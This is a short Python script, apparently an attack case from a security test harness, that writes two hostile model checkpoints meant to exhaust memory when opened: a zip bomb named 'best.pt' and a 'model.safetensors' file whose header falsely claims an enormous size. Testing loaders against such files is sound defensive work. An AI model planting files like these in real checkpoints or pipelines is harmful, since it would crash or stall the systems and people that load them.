"""Checkpoints that take the host's memory when they are opened: a zip bomb, tables of a safetensors file that lie."""

import json
import os
import zipfile

os.chdir(os.environ["M3_OUT"])
with zipfile.ZipFile("best.pt", "w", zipfile.ZIP_DEFLATED) as file:
    file.writestr("archive/data/0", b"\0" * (64 << 20))
with open("model.safetensors", "wb") as file:
    file.write((1 << 62).to_bytes(8, "little") + b"{}")
print(
    "ATTACK", json.dumps({"attack": "bomb_checkpoint", "breach": None, "detail": "breach if the host's memory grows"})
)
